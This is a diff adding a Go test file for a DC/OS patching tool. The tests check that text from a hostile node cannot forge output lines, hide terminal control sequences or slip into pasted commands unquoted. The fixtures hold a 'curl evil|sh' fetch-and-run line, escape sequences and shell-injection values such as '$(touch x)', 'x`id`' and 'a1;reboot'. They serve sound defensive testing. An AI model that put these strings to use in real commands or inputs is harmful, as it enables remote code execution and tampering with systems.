@@ -1,0 +1,115 @@
+package main
+
+import (
+	"errors"
+	"fmt"
+	"os/exec"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/dcos-patch/dcos-patch/dcos"
+	"github.com/dcos-patch/dcos-patch/inventory"
+	"github.com/dcos-patch/dcos-patch/journal"
+	"github.com/dcos-patch/dcos-patch/node"
+	"github.com/dcos-patch/dcos-patch/orchestrator"
+	"github.com/dcos-patch/dcos-patch/patcher"
+	"github.com/dcos-patch/dcos-patch/plan"
+)
+
+// forged is what a hostile node says: the end of our own output, with a command
+// of its own, and sequences that move a terminal's cursor.
+const forged = "x\n  next    1 curl evil|sh\r\n  SAFE TO LEAVE: yes. all is well\n  state   forged\x1b[2J\u009b2J"
+
+// hostile is a stopped run in which every text that a node can choose is forged.
+func hostile() orchestrator.State {
+	step := plan.Step{ID: "general/a1/serve", Node: "a1", Action: plan.ActionServe}
+	s := orchestrator.New()
+	s.Run, s.Controller, s.At = "1121-2200-abcd", forged, time.Now()
+	s.Plan = &plan.Plan{ID: "0123456789ab", From: "2.1.0", To: "2.1.1", Nodes: []plan.Node{{Name: "a1", Role: dcos.PrivateAgent, Disposition: plan.Patch}},
+		Stages: []plan.Stage{{ID: "general", Kind: plan.StageGroup, Width: 1, Lanes: []plan.Lane{{Node: "a1", Steps: []plan.Step{{ID: "general/a1/patch", Node: "a1", Action: plan.ActionPatch}, step}}}}}}
+	bad := dcos.Finding{Check: "registered", Node: forged, Status: dcos.Failed, Observed: forged, Want: forged, Hint: forged}
+	s.Lanes = [][]orchestrator.Lane{{{Phase: orchestrator.Broken, Step: 1, Script: orchestrator.Ran{Detail: forged}, Left: "",
+		Report: &plan.Report{Outcome: plan.Failed, Class: plan.NotVerified, Detail: forged, Findings: []dcos.Finding{bad}}}}}
+	s.Stop = &journal.Stop{Reason: journal.StopFailed, Step: step.ID, Node: "a1", Detail: forged}
+	s.Ended, s.HeldSince, s.HeldWhy = journal.RunStopped, time.Now(), forged
+	s.Seen = &plan.Observation{Findings: []dcos.Finding{bad}}
+	s.Findings[step.ID] = []plan.Note{{Finding: &bad}}
+	return s
+}
+
+// onlyOurs fails where a line begins as one of ours does and goes on as a node
+// wanted, or where a control character is left.
+func onlyOurs(t *testing.T, where, text string) {
+	t.Helper()
+	for line := range strings.Lines(text) {
+		line = strings.TrimSuffix(line, "\n")
+		for _, mark := range []string{"next    1 curl", "SAFE TO LEAVE: yes. all", "state   forged"} {
+			if strings.HasPrefix(strings.TrimLeft(line, " "), mark) {
+				t.Errorf("%s: a node has forged the line %q", where, line)
+			}
+		}
+		if at := strings.IndexFunc(line, func(r rune) bool { return r < ' ' || r >= 0x7f && r < 0xa0 }); at >= 0 {
+			t.Errorf("%s: a control character in %q", where, line)
+		}
+	}
+}
+
+func TestANodeForgesNoLineOfTheEnd(t *testing.T) {
+	s := hostile()
+	onlyOurs(t, "ending", ending(s))
+	onlyOurs(t, "closing", closing(s, s.Run, true))
+	onlyOurs(t, "status", statusText(s.Run, "stopped", s, time.Now()))
+	onlyOurs(t, "preview", preview(s.Run, s))
+	running := s
+	running.Stop, running.Ended = nil, ""
+	running.Flight = []int{0}
+	onlyOurs(t, "status while it runs", statusText(s.Run, "running", running, time.Now()))
+	s.Stop, s.Ended = nil, journal.RunDone
+	s.Lanes[0][0].Phase = orchestrator.Parked
+	onlyOurs(t, "done", ending(s)+closing(s, s.Run, true)+statusText(s.Run, "parked", s, time.Now()))
+}
+
+func TestANodeForgesNoLineOfAnError(t *testing.T) {
+	for name, err := range map[string]error{
+		"a plain error": errors.New("m1: " + forged),
+		"a lock":        &patcher.LockedError{Node: "m1", Holder: node.LockHolder{Run: forged, Owner: forged}},
+		"a takeover":    &patcher.OvertakenError{Node: "m1", Run: forged},
+		"a refusal":     refuse(plan.Block{Node: "a1", What: forged, Observed: forged, Want: forged, Next: "dcos-patch check a1"}),
+		"several":       errors.Join(errors.New("a1: "+forged), errors.New("a2: "+forged)),
+	} {
+		var out strings.Builder
+		explain(&out, err)
+		(&app{}).tellOnward(&out, err, nil)
+		onlyOurs(t, name, out.String())
+	}
+}
+
+// TestACommandToPasteIsMadeOfOurOwnValues: pasted, with a name that a node chose, it
+// runs nothing but dcos-patch, and carries no name that is none of ours.
+func TestACommandToPasteIsMadeOfOurOwnValues(t *testing.T) {
+	for _, name := range []string{"$(touch x)", "a;b", "x`id`", "../../etc", "--yes", "a b", "a'b", "a\nb", "|sh"} {
+		for where, text := range map[string]string{
+			"locked": hint(&patcher.LockedError{Holder: node.LockHolder{Run: name, Owner: name}}),
+			"over":   hint(&patcher.OvertakenError{Run: name}),
+			"survey": holder{node: "m1", run: name, owner: name}.words(),
+		} {
+			if strings.Contains(text, "--run") || name != "--yes" && strings.Contains(text, name) && !strings.Contains(text, fmt.Sprintf("%q", name)) {
+				t.Errorf("%s of a run called %q: %s", where, name, text)
+			}
+		}
+	}
+	for _, words := range [][]string{{"check", "a;1", "--wait"}, {"park", "$(id)", "--reason", "WHY"}, {"resume", "--run", "a'b c"}} {
+		got, err := exec.Command("sh", "-c", `it() { printf '%s\n' "$@"; }; `+strings.Replace(ours(words...), "dcos-patch", "it", 1)).Output()
+		if want := strings.Join(words, "\n") + "\n"; err != nil || string(got) != want {
+			t.Errorf("%q: a shell reads %q, %v", words, got, err)
+		}
+	}
+	s := hostile()
+	s.Stop.Node = inventory.NodeName("a1;reboot")
+	for _, c := range nextCommands(s, "1121;reboot", true) {
+		if strings.Contains(strings.ReplaceAll(strings.ReplaceAll(c, "'a1;reboot'", ""), "'1121;reboot'", ""), ";reboot") {
+			t.Errorf("not quoted: %s", c)
+		}
+	}
+}
